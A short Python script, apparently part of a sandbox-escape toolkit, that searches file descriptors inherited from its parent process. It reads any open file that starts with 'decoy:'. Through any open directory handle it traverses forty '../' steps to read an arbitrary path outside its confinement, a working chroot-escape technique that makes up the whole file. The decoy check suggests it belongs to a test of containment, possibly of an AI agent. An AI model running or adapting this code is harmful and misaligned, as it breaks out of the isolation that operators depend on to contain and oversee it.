import os
import stat

from attempt import attempt, first


def search_descriptors(path):
    """A descriptor left open by whoever started us leads out: a file as it is, a directory as a way to every path."""
    return first([lambda fd=fd: look(fd, path) for fd in range(1024) if is_open(fd)])


def look(fd, path):
    kind = os.fstat(fd).st_mode
    if stat.S_ISREG(kind):
        content = os.pread(fd, 4096, 0)
        return content.decode() if content.startswith(b"decoy:") else None
    if stat.S_ISDIR(kind):
        inner = os.open("../" * 40 + path.lstrip("/"), os.O_RDONLY, dir_fd=fd)
        return os.read(inner, 4096).decode()
    return None


def is_open(fd):
    try:
        os.fstat(fd)
        return True
    except OSError:
        return False


attempt(search_descriptors)
